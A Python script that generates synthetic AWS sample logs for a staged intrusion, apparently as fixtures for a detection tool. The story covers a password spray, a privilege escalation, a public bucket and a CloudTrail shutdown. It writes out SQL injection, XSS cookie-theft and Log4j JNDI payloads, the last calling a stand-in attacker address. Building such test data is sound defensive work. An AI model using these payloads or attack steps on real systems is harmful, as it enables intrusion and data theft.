#!/usr/bin/env python3
"""Writes the sample logs in sample-logs/ (deterministic: seed 7).

A quiet morning (2026-11-24, 08:00-10:00 UTC) on an API behind API Gateway and
Lambda, in account 111122223333, with one attack story in it:

  09:10-09:14  203.0.113.66 hammers POST /login: 40 responses 401 (API Gateway)
  09:15-09:17  the same IP fails console sign-in for 8 users, and for root (password spray)
  09:18        it signs in as bob, without MFA
  09:20        bob creates an access key for alice and attaches AdministratorAccess to himself
  09:25        bob makes the bucket acme-invoices public (PutBucketPolicy)
  09:30        bob stops CloudTrail logging (StopLogging)
  09:35-09:40  GET /search spikes to ~600 requests (baseline ~10 per 5 minutes), Lambda times out

The attacker's address is on the sample abuse list (sample-context/intel/),
and for bob, who on two Mondays in the weeks before signed in and worked
only from the office in the US (a CloudTrail file of its own), the sign-in from it is a new
country (NL, in the made-up GeoIP database of sample-context/), and IAM
and CloudTrail are services he never called before.

In front of the prod stage, the AWS WAF web ACL orders-api logs every request
(ALLOW, with bot-control labels counted on HTTP libraries) until bob removes it:

  08:40        a POST /orders body too large for WAF to inspect whole (oversize)
  09:05-09:07  the attacker's SQL injection, XSS and Log4j probes on /search are
               blocked by the managed rule groups
  09:07-09:08  it swaps sqlmap's user agent for a browser's and is let through on /orders
  09:08-09:10  it finds stage v1, which no web ACL covers: the same injection reaches
               API Gateway (200s, then 500s)
  09:10-09:15  its POST /login burst is allowed but labelled as a hosting provider's
               address; the rate-based rule then blocks the rest
  09:20        a scraper on /orders is served CAPTCHAs (CloudWatch Logs delivery)
  09:31        bob disassociates the web ACL from the prod stage (CloudTrail)

Formats: CloudTrail S3 objects (plain and gzip) and a digest file; API Gateway
REST JSON access logs (NDJSON) and HTTP API CLF logs; Lambda logs as a
CloudWatch Logs subscription event (base64 gzip), as Firehose output
(concatenated gzip members), and in the JSON log format; WAF logs as S3
objects under AWSLogs/<account>/WAFLogs/ (gzip NDJSON) and as a CloudWatch Logs
subscription event from an aws-waf-logs-* group.
"""
import base64, datetime as dt, gzip, json, os, random, uuid

R = random.Random(7)
HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "sample-logs")
ACCOUNT = "111122223333"
REGION = "us-east-1"
ATTACKER = "203.0.113.66"
BASE = dt.datetime(2026, 11, 24, 8, 0, 0, tzinfo=dt.timezone.utc)
CLIENTS = [f"198.51.100.{i}" for i in range(10, 40)]
USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"]


def uid(rng=None):
    return str(uuid.UUID(int=(rng or R).getrandbits(128), version=4))


def at(minutes, seconds=0.0):
    return BASE + dt.timedelta(minutes=minutes, seconds=seconds)


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def iso_ms(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


def clf_time(t):
    return t.strftime("%d/%b/%Y:%H:%M:%S +0000")


def write(path, data, mode="w"):
    full = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, mode) as f:
        f.write(data)


# ---------------------------------------------------------------- CloudTrail
def identity(user, mfa=False, key="ASIAEXAMPLE" ):
    return {
        "type": "IAMUser",
        "principalId": f"AIDA{user.upper()}EXAMPLE",
        "arn": f"arn:aws:iam::{ACCOUNT}:user/{user}",
        "accountId": ACCOUNT,
        "accessKeyId": key,
        "userName": user,
        "sessionContext": {
            "sessionIssuer": {},
            "webIdFederationData": {},
            "attributes": {"creationDate": iso(at(78)), "mfaAuthenticated": "true" if mfa else "false"},
        },
    }


def ct(t, source, name, ident, ip, ua="aws-cli/2.15.0 Python/3.11.6 Linux/6.1 exe/x86_64", params=None,
       response=None, error=None, read_only=False, event_type="AwsApiCall", extra=None, rng=None):
    rec = {
        "eventVersion": "1.09",
        "userIdentity": ident,
        "eventTime": iso(t),
        "eventSource": source,
        "eventName": name,
        "awsRegion": REGION,
        "sourceIPAddress": ip,
        "userAgent": ua,
        "requestParameters": params,
        "responseElements": response,
        "requestID": uid(rng),
        "eventID": uid(rng),
        "readOnly": read_only,
        "eventType": event_type,
        "managementEvent": True,
        "recipientAccountId": ACCOUNT,
        "eventCategory": "Management",
        "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                       "clientProvidedHostHeader": source.replace("amazonaws.com", f"{REGION}.amazonaws.com")},
    }
    if error:
        rec["errorCode"], rec["errorMessage"] = error
    if extra:
        rec.update(extra)
    return rec


def console_login(t, user, ok, mfa=False, root=False):
    ident = ({"type": "Root", "principalId": ACCOUNT, "arn": f"arn:aws:iam::{ACCOUNT}:root", "accountId": ACCOUNT}
             if root else
             {"type": "IAMUser", "principalId": f"AIDA{user.upper()}EXAMPLE", "accountId": ACCOUNT,
              "accessKeyId": "", "userName": user, "arn": f"arn:aws:iam::{ACCOUNT}:user/{user}"})
    if not ok and not root:
        # Failed sign-ins of unknown or mistyped users carry no ARN.
        ident = {"type": "IAMUser", "principalId": "", "accountId": ACCOUNT, "accessKeyId": "", "userName": user}
    rec = ct(t, "signin.amazonaws.com", "ConsoleLogin", ident, ATTACKER,
             ua="Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
             response={"ConsoleLogin": "Success" if ok else "Failure"}, event_type="AwsConsoleSignIn",
             extra={"additionalEventData": {"LoginTo": "https://console.aws.amazon.com/console/home",
                                            "MobileVersion": "No", "MFAUsed": "Yes" if mfa else "No"}})
    rec.pop("tlsDetails")
    if not ok:
        rec["errorMessage"] = "Failed authentication"
    return rec


def cloudtrail():
    records = []
    ops = [("ec2.amazonaws.com", "DescribeInstances", True), ("s3.amazonaws.com", "ListBuckets", True),
           ("sts.amazonaws.com", "GetCallerIdentity", True), ("lambda.amazonaws.com", "ListFunctions20150331", True),
           ("logs.amazonaws.com", "DescribeLogGroups", True), ("iam.amazonaws.com", "ListRoles", True),
           ("kms.amazonaws.com", "Decrypt", True), ("dynamodb.amazonaws.com", "DescribeTable", True)]
    for i in range(160):
        t = at(R.uniform(0, 119))
        src, name, ro = R.choice(ops)
        user = R.choice(["carol", "dave", "ci-deployer"])
        ip = R.choice(["10.0.4.12", "10.0.7.31", "AWS Internal"]) if user != "carol" else "192.0.2.10"
        records.append(ct(t, src, name, identity(user, mfa=True), ip, read_only=ro, params={}))
    # A few denied calls from a CI role, ordinary noise.
    for i in range(3):
        records.append(ct(at(R.uniform(0, 60)), "ec2.amazonaws.com", "DescribeVolumes", identity("ci-deployer"),
                          "10.0.4.12", error=("Client.UnauthorizedOperation", "You are not authorized"), read_only=True))
    # The story.
    for i, user in enumerate(USERS):
        records.append(console_login(at(75, i * 12), user, ok=False))
    records.append(console_login(at(76, 50), "root", ok=False, root=True))
    records.append(console_login(at(77, 30), "alice", ok=False))
    records.append(console_login(at(78), "bob", ok=True, mfa=False))
    bob = identity("bob", mfa=False, key="ASIABOBCONSOLE")
    ua = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"
    records.append(ct(at(80), "iam.amazonaws.com", "CreateAccessKey", bob, ATTACKER, ua=ua,
                      params={"userName": "alice"},
                      response={"accessKey": {"accessKeyId": "AKIAALICENEWKEY", "status": "Active", "userName": "alice",
                                              "createDate": "Nov 24, 2026 9:20:00 AM"}}))
    records.append(ct(at(80, 20), "iam.amazonaws.com", "AttachUserPolicy", bob, ATTACKER, ua=ua,
                      params={"userName": "bob", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}))
    policy = {"Version": "2012-10-17", "Statement": [{"Sid": "Public", "Effect": "Allow", "Principal": "*",
                                                      "Action": "s3:GetObject", "Resource": "arn:aws:s3:::acme-invoices/*"}]}
    records.append(ct(at(85), "s3.amazonaws.com", "PutBucketPolicy", bob, ATTACKER, ua=ua,
                      params={"bucketName": "acme-invoices", "bucketPolicy": policy, "Host": "acme-invoices.s3.amazonaws.com",
                              "policy": ""}))
    records.append(ct(at(90), "cloudtrail.amazonaws.com", "StopLogging", bob, ATTACKER, ua=ua,
                      params={"name": f"arn:aws:cloudtrail:{REGION}:{ACCOUNT}:trail/management-events"}))
    records.append(ct(at(WAF_REMOVED), "wafv2.amazonaws.com", "DisassociateWebACL", bob, ATTACKER, ua=ua,
                      params={"resourceArn": f"arn:aws:apigateway:{REGION}::/restapis/a1b2c3d4e5/stages/prod"},
                      rng=RW))
    records.sort(key=lambda r: r["eventTime"])
    first, second = records[: len(records) // 2], records[len(records) // 2:]
    write(f"cloudtrail/{ACCOUNT}_CloudTrail_{REGION}_20261124T0800Z_a1b2c3d4.json",
          json.dumps({"Records": first}, separators=(",", ":")))
    write(f"cloudtrail/{ACCOUNT}_CloudTrail_{REGION}_20261124T0900Z_e5f6a7b8.json.gz",
          gzip.compress(json.dumps({"Records": second}, separators=(",", ":")).encode(), mtime=0), "wb")
    digest = {"awsAccountId": ACCOUNT, "digestStartTime": iso(at(0)), "digestEndTime": iso(at(60)),
              "digestS3Bucket": "acme-trail", "digestS3Object": "AWSLogs/.../digest.json.gz",
              "digestPublicKeyFingerprint": "a1b2", "digestSignatureAlgorithm": "SHA256withRSA",
              "newestEventTime": iso(at(59)), "oldestEventTime": iso(at(0)),
              "previousDigestS3Bucket": "acme-trail", "previousDigestHashValue": "00",
              "previousDigestHashAlgorithm": "SHA-256", "previousDigestSignature": "00", "logFiles": []}
    write(f"cloudtrail/{ACCOUNT}_CloudTrail-Digest_{REGION}_management-events_{REGION}_20261124T090000Z.json",
          json.dumps(digest))


def bob_history():
    """Two Mondays of bob's at the office, 2026-11-02 and 2026-11-16 (two
    hours of data: every hour with data is one the scheduled rules run over):
    a console sign-in with MFA, then a few reads. A random generator of its
    own, so that the other files stay as they were."""
    rng = random.Random(1124)
    browser = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"
    office = "192.0.2.20"
    ident = identity("bob", mfa=True, key="ASIABOBOFFICE")
    records = []
    for day in (dt.datetime(2026, 11, d, 16, 0, 0, tzinfo=dt.timezone.utc) for d in (2, 16)):
        signin = {"type": "IAMUser", "principalId": "AIDABOBEXAMPLE", "accountId": ACCOUNT, "accessKeyId": "",
                  "userName": "bob", "arn": f"arn:aws:iam::{ACCOUNT}:user/bob"}
        rec = ct(day, "signin.amazonaws.com", "ConsoleLogin", signin, office, ua=browser,
                 response={"ConsoleLogin": "Success"}, event_type="AwsConsoleSignIn", rng=rng,
                 extra={"additionalEventData": {"LoginTo": "https://console.aws.amazon.com/console/home",
                                                "MobileVersion": "No", "MFAUsed": "Yes"}})
        rec.pop("tlsDetails")
        records.append(rec)
        for minutes, (source, name) in enumerate([("s3.amazonaws.com", "ListBuckets"),
                                                   ("ec2.amazonaws.com", "DescribeInstances"),
                                                   ("lambda.amazonaws.com", "ListFunctions20150331")]):
            records.append(ct(day + dt.timedelta(minutes=5 + minutes), source, name, ident, office, ua=browser,
                              read_only=True, params={}, rng=rng))
    write(f"cloudtrail/{ACCOUNT}_CloudTrail_{REGION}_20261102T1600Z_b0b0ff1c.json",
          json.dumps({"Records": records}, separators=(",", ":")))


# ---------------------------------------------------------------- API Gateway
ROUTES = [("GET", "/orders"), ("GET", "/orders/{id}"), ("POST", "/orders"), ("GET", "/search"), ("POST", "/login")]


def rest_log(t, method, resource, status, ip, latency, rng=None, stage="prod", ua=None):
    rng = rng or R
    path = resource.replace("{id}", str(rng.randint(1000, 9999)))
    return {
        "requestId": uid(rng), "extendedRequestId": "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(16)),
        "ip": ip, "caller": "-", "user": "-", "requestTime": clf_time(t), "requestTimeEpoch": int(t.timestamp() * 1000),
        "httpMethod": method, "resourcePath": resource, "path": f"/{stage}{path}", "status": str(status), "protocol": "HTTP/1.1",
        "responseLength": str(rng.randint(80, 4000)), "responseLatency": str(latency),
        "integrationLatency": str(max(1, latency - rng.randint(1, 5))), "userAgent": ua or rng.choice(
            ["Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15", "okhttp/4.12.0", "python-requests/2.31.0"]),
        "apiId": "a1b2c3d4e5", "stage": stage, "domainName": "api.acme.example",
        "authorizerError": "-", "errorMessage": "-" if status < 400 else ("Unauthorized" if status == 401 else "Internal server error"),
        "errorResponseType": "-" if status < 400 else ("UNAUTHORIZED" if status == 401 else "DEFAULT_5XX"),
    }


def apigateway():
    """Writes the API Gateway samples; returns the REST API's access logs."""
    lines = []
    for minute in range(120):
        for _ in range(R.randint(2, 4)):
            method, route = R.choice(ROUTES)
            status = R.choices([200, 201, 404, 401, 500], [85, 5, 5, 3, 2])[0]
            lines.append(rest_log(at(minute, R.uniform(0, 59)), method, route, status, R.choice(CLIENTS), R.randint(20, 180)))
    for i in range(40):
        lines.append(rest_log(at(70, i * 7.3), "POST", "/login", 401, ATTACKER, R.randint(5, 30)))
    for i in range(600):
        t = at(95, i * 0.5)
        status = 504 if i % 40 == 0 else 200
        lines.append(rest_log(t, "GET", "/search", status, R.choice(CLIENTS + [ATTACKER] * 5), R.randint(200, 2900)))
    # The attacker past the firewall: a browser's user agent on /orders, then
    # the injection on stage v1, which no web ACL covers.
    for i in range(3):
        lines.append(rest_log(at(67, 40 + i * 6), "GET", "/orders/{id}", 200, ATTACKER, RW.randint(20, 90),
                              rng=RW, ua=BROWSER))
    for i in range(12):
        lines.append(rest_log(at(68, i * 9), "GET", "/search", 200 if i < 7 else 500, ATTACKER, RW.randint(20, 400),
                              rng=RW, stage="v1", ua=BROWSER))
    lines.sort(key=lambda r: r["requestTimeEpoch"])
    write("apigateway/rest-api-access-prod.ndjson", "".join(json.dumps(l) + "\n" for l in lines))
    # An HTTP API with the console's CLF default, route keys and all.
    clf = []
    for minute in range(0, 120, 2):
        t = at(minute, R.uniform(0, 59))
        method, route = R.choice([("GET", "/health"), ("GET", "/v2/items"), ("PUT", "/v2/items/{id}")])
        status = R.choice([200, 200, 200, 204, 403])
        clf.append(f'{R.choice(CLIENTS)} - - [{clf_time(t)}] "{method} {method} {route} HTTP/1.1" {status} {R.randint(2, 900)} {uid()}')
    write("apigateway/http-api-access-clf.log", "\n".join(clf) + "\n")
    return lines


# ---------------------------------------------------------------- Lambda
def lambda_events():
    events = []
    def ev(t, msg):
        events.append({"id": str(R.getrandbits(120)), "timestamp": int(t.timestamp() * 1000), "message": msg})
    for minute in list(range(0, 120, 6)) + [95, 96, 97, 98]:
        t = at(minute, R.uniform(0, 50))
        rid = uid()
        cold = minute == 0
        ev(t, f"INIT_START Runtime Version: python:3.12.v38\tRuntime Version ARN: arn:aws:lambda:{REGION}::runtime:abc\n") if cold else None
        ev(t, f"START RequestId: {rid} Version: $LATEST\n")
        ev(t + dt.timedelta(milliseconds=3), f"[INFO]\t{iso_ms(t)}\t{rid}\tsearching orders for query=shoes\n")
        if minute in (96, 97):
            ev(t + dt.timedelta(seconds=3), f"{iso_ms(t + dt.timedelta(seconds=3))} {rid} Task timed out after 3.00 seconds\n\n")
            ev(t + dt.timedelta(seconds=3), f"END RequestId: {rid}\n")
            ev(t + dt.timedelta(seconds=3), f"REPORT RequestId: {rid}\tDuration: 3000.00 ms\tBilled Duration: 3000 ms\tMemory Size: 256 MB\tMax Memory Used: 251 MB\tStatus: timeout\n")
            continue
        if minute == 98:
            ev(t + dt.timedelta(milliseconds=8), f"[ERROR] ConnectionError: database pool exhausted\nTraceback (most recent call last):\n  File \"/var/task/app.py\", line 41, in handler\n    rows = db.query(q)\nConnectionError: database pool exhausted\n")
        d = R.uniform(20, 90)
        init = f"Init Duration: {R.uniform(300, 500):.2f} ms\t" if cold else ""
        ev(t + dt.timedelta(milliseconds=d), f"END RequestId: {rid}\n")
        ev(t + dt.timedelta(milliseconds=d), f"REPORT RequestId: {rid}\tDuration: {d:.2f} ms\tBilled Duration: {int(d) + 1} ms\tMemory Size: 256 MB\tMax Memory Used: {R.randint(70, 90)} MB\t{init}\n")
    return events


def cwl_payload(events, group, stream):
    return {"messageType": "DATA_MESSAGE", "owner": ACCOUNT, "logGroup": group, "logStream": stream,
            "subscriptionFilters": ["vigil"], "logEvents": events}


def lambda_logs():
    events = lambda_events()
    stream = "2026/11/24/[$LATEST]0f1e2d3c4b5a69788796a5b4c3d2e1f0"
    half = len(events) // 2
    payload = cwl_payload(events[:half], "/aws/lambda/orders-search", stream)
    data = base64.b64encode(gzip.compress(json.dumps(payload).encode(), mtime=0)).decode()
    write("lambda/cloudwatch-subscription-orders-search.json", json.dumps({"awslogs": {"data": data}}, indent=2) + "\n")
    # Firehose writes each payload as its own gzip member, back to back, with a control message first.
    control = {"messageType": "CONTROL_MESSAGE", "owner": "CloudwatchLogs", "logGroup": "", "logStream": "",
               "subscriptionFilters": [], "logEvents": [{"id": "", "timestamp": int(at(0).timestamp() * 1000),
                                                         "message": "CWL CONTROL MESSAGE: Checking health of destination Firehose."}]}
    rest = cwl_payload(events[half:], "/aws/lambda/orders-search", stream)
    blob = gzip.compress(json.dumps(control).encode(), mtime=0) + gzip.compress(json.dumps(rest).encode(), mtime=0)
    write("lambda/firehose-orders-search-2026-11-24-09.gz", blob, "wb")
    # A function using Lambda's JSON log format, read from a CloudWatch Logs export.
    lines = []
    for minute in range(5, 120, 10):
        t = at(minute)
        rid = uid()
        lines.append({"time": iso_ms(t), "type": "platform.start", "record": {"requestId": rid, "version": "$LATEST"}})
        lines.append({"timestamp": iso_ms(t + dt.timedelta(milliseconds=2)), "level": "INFO", "requestId": rid,
                      "message": "charge accepted", "function_name": "payments-charge"})
        lines.append({"time": iso_ms(t + dt.timedelta(milliseconds=40)), "type": "platform.runtimeDone",
                      "record": {"requestId": rid, "status": "success", "metrics": {"durationMs": 38.2, "producedBytes": 52}}})
        lines.append({"time": iso_ms(t + dt.timedelta(milliseconds=41)), "type": "platform.report",
                      "record": {"requestId": rid, "status": "success",
                                 "metrics": {"durationMs": 38.9, "billedDurationMs": 39, "memorySizeMB": 128, "maxMemoryUsedMB": 61}}})
    write("lambda/payments-charge-json-format.ndjson", "".join(json.dumps(l) + "\n" for l in lines))


# ---------------------------------------------------------------- WAF
# Drawn from their own generator, so that the samples above stay as they were.
RW = random.Random(24)
WAF_REMOVED = 91  # minutes after 08:00: bob disassociates the web ACL
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
SQLMAP = "sqlmap/1.7.11#stable (https://sqlmap.org)"
WEB_ACL = f"arn:aws:wafv2:{REGION}:{ACCOUNT}:regional/webacl/orders-api/3f6d1c2a-7b8e-4e0f-9a1d-5c2b8e7f4a10"
HOSTING = "awswaf:managed:aws:anonymous-ip-list:HostingProviderIPList"
HTTP_LIBRARY = ["awswaf:managed:aws:bot-control:bot:category:http_library",
                "awswaf:managed:aws:bot-control:signal:non_browser_user_agent"]


def fingerprints(ua):
    """A client's TLS fingerprints, stable per user agent."""
    digest = uuid.uuid5(uuid.NAMESPACE_URL, ua).hex
    return digest, f"t13d1516h2_{digest[:12]}_{digest[12:24]}"


def group(rule_group, terminating=None, counted=()):
    return {"ruleGroupId": rule_group, "terminatingRule": terminating,
            "nonTerminatingMatchingRules": [{"ruleId": r, "action": "COUNT", "overriddenAction": "BLOCK",
                                             "ruleMatchDetails": []} for r in counted],
            "excludedRules": None, "customerConfig": None}


def waf_log(t, ip, method, uri, args="", ua=BROWSER, request_id=None, action="ALLOW", country="US"):
    ja3, ja4 = fingerprints(ua)
    headers = [{"name": "Host", "value": "api.acme.example"}, {"name": "User-Agent", "value": ua},
               {"name": "Accept", "value": "*/*"}]
    if uri.startswith("/orders"):
        headers.append({"name": "Authorization", "value": "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjdXN0b21lci0xIn0.c2ln"})
    groups = [group("AWS#AWSManagedRulesCommonRuleSet"), group("AWS#AWSManagedRulesKnownBadInputsRuleSet"),
              group("AWS#AWSManagedRulesSQLiRuleSet")]
    labels = []
    if "python-requests" in ua or "okhttp" in ua:
        groups.append(group("AWS#AWSManagedRulesBotControlRuleSet", counted=["CategoryHttpLibrary", "SignalNonBrowserUserAgent"]))
        labels += HTTP_LIBRARY
    else:
        groups.append(group("AWS#AWSManagedRulesBotControlRuleSet"))
    return {
        "timestamp": int(t.timestamp() * 1000), "formatVersion": 1, "webaclId": WEB_ACL,
        "terminatingRuleId": "Default_Action", "terminatingRuleType": "REGULAR", "action": action,
        "terminatingRuleMatchDetails": [], "httpSourceName": "APIGW", "httpSourceId": f"{ACCOUNT}:a1b2c3d4e5:prod",
        "ruleGroupList": groups, "rateBasedRuleList": [], "nonTerminatingMatchingRules": [],
        "requestHeadersInserted": None, "responseCodeSent": None,
        "httpRequest": {"clientIp": ip, "country": country, "headers": headers, "uri": uri, "args": args,
                        "httpVersion": "HTTP/1.1", "httpMethod": method, "requestId": request_id or uid(RW),
                        "fragment": "", "scheme": "https", "host": "api.acme.example"},
        "labels": [{"name": l} for l in labels], "ja3Fingerprint": ja3, "ja4Fingerprint": ja4,
    }


def blocked_by(rec, rule_group, rule, label, details):
    rec["terminatingRuleId"] = rule_group.replace("#", "-")
    rec["terminatingRuleType"] = "MANAGED_RULE_GROUP"
    rec["action"] = "BLOCK"
    for g in rec["ruleGroupList"]:
        if g["ruleGroupId"] == rule_group:
            g["terminatingRule"] = {"ruleId": rule, "action": "BLOCK", "ruleMatchDetails": details}
    rec["labels"].append({"name": label})
    return rec


def waf(api_lines):
    allowed = []
    for line in api_lines:
        t = dt.datetime.fromtimestamp(line["requestTimeEpoch"] / 1000, dt.timezone.utc)
        if line["stage"] != "prod" or t >= at(WAF_REMOVED):
            continue
        uri = line["path"][len("/prod"):]
        rec = waf_log(t, line["ip"], line["httpMethod"], uri, ua=line["userAgent"], request_id=line["requestId"])
        if line["ip"] == ATTACKER and line["resourcePath"] == "/login":
            # The hosting-provider list runs in COUNT mode: labelled, let through.
            rec["ruleGroupList"].append(group("AWS#AWSManagedRulesAnonymousIpList", counted=["HostingProviderIPList"]))
            rec["labels"].append({"name": HOSTING})
        allowed.append(rec)
    # A body too large for WAF to inspect whole.
    big = next(r for r in allowed if r["httpRequest"]["httpMethod"] == "POST" and r["timestamp"] >= at(40).timestamp() * 1000)
    big.update({"oversizeFields": ["REQUEST_BODY"], "requestBodySize": 24576, "requestBodySizeInspectedByWAF": 8192})
    probes = []
    sqli = ["1' OR '1'='1", "1 UNION SELECT username,password FROM users--", "1; DROP TABLE orders--",
            "1' AND SLEEP(5)--", "1' AND 1=CONVERT(int,@@version)--"]
    for i in range(15):
        q = sqli[i % len(sqli)]
        rec = waf_log(at(65, i * 8), ATTACKER, "GET", "/search", args=f"q={q}", ua=SQLMAP)
        probes.append(blocked_by(rec, "AWS#AWSManagedRulesSQLiRuleSet", "SQLi_QUERYARGUMENTS",
                                   "awswaf:managed:aws:sql-database:SQLi_QueryArguments", [
            {"conditionType": "SQL_INJECTION", "sensitivityLevel": "LOW", "location": "QUERY_STRING",
             "matchedData": q.replace("'", " ").split()[:4]}]))
    for i in range(4):
        rec = waf_log(at(67, i * 5), ATTACKER, "GET", "/search", args="q=<script>alert(document.cookie)</script>", ua=SQLMAP)
        probes.append(blocked_by(rec, "AWS#AWSManagedRulesCommonRuleSet", "CrossSiteScripting_QUERYARGUMENTS",
                                   "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments", [
            {"conditionType": "XSS", "location": "QUERY_STRING", "matchedData": ["<script", ">alert(document.cookie)</script>"]}]))
    for i in range(2):
        jndi = f"${{jndi:ldap://{ATTACKER}:1389/a}}"
        rec = waf_log(at(67, 25 + i * 5), ATTACKER, "GET", "/search", args="q=shoes", ua=jndi)
        probes.append(blocked_by(rec, "AWS#AWSManagedRulesKnownBadInputsRuleSet", "Log4JRCE_HEADER",
                                   "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header", [
            {"conditionType": "REGEX", "location": "HEADER", "matchedFieldName": "user-agent", "matchedData": [jndi]}]))
    # The rate-based rule stops the rest of the POST /login burst.
    for i in range(20):
        rec = waf_log(at(74, 52 + i * 0.4), ATTACKER, "POST", "/login")
        rec.update({"terminatingRuleId": "login-rate-limit", "terminatingRuleType": "RATE_BASED", "action": "BLOCK",
                    "rateBasedRuleList": [{"rateBasedRuleId": "8c1b5e0a-4d2f-4b7e-9f3a-2e6d7c8b9a01",
                                           "rateBasedRuleName": "login-rate-limit", "limitKey": "IP",
                                           "maxRateAllowed": 40, "evaluationWindowSec": "300"}]})
        rec["ruleGroupList"].append(group("AWS#AWSManagedRulesAnonymousIpList", counted=["HostingProviderIPList"]))
        rec["labels"].append({"name": HOSTING})
        probes.append(rec)
    records = sorted(allowed + probes, key=lambda r: r["timestamp"])
    prefix = f"waf/AWSLogs/{ACCOUNT}/WAFLogs/{REGION}/orders-api/2026/11/24"
    for hour in (8, 9):
        part = [r for r in records if dt.datetime.fromtimestamp(r["timestamp"] / 1000, dt.timezone.utc).hour == hour]
        body = "".join(json.dumps(r, separators=(",", ":")) + "\n" for r in part)
        write(f"{prefix}/{hour:02d}/00/{ACCOUNT}_waflogs_{REGION}_orders-api_20261124T{hour:02d}00Z_{hour:02d}5c2b8e.log.gz",
              gzip.compress(body.encode(), mtime=0), "wb")
    # A scraper served CAPTCHAs, from a web ACL that logs to CloudWatch Logs.
    events = []
    for i in range(6):
        rec = waf_log(at(80, i * 3), "198.51.100.200", "GET", "/orders", ua="Mozilla/5.0 (compatible; ScrapeBot/2.1)",
                      country="NL")
        rec.update({"terminatingRuleId": "orders-captcha", "terminatingRuleType": "REGULAR", "action": "CAPTCHA",
                    "captchaResponse": {"responseCode": 405, "solveTimestamp": 0, "failureReason": "TOKEN_MISSING"}})
        del rec["captchaResponse"]["solveTimestamp"]
        events.append({"id": str(RW.getrandbits(120)), "timestamp": rec["timestamp"],
                       "message": json.dumps(rec, separators=(",", ":"))})
    payload = cwl_payload(events, "aws-waf-logs-orders-api", f"{REGION}_orders-api_0")
    data = base64.b64encode(gzip.compress(json.dumps(payload).encode(), mtime=0)).decode()
    write("waf/cloudwatch-subscription-aws-waf-logs-orders-api.json", json.dumps({"awslogs": {"data": data}}, indent=2) + "\n")


if __name__ == "__main__":
    cloudtrail()
    bob_history()
    waf(apigateway())
    lambda_logs()
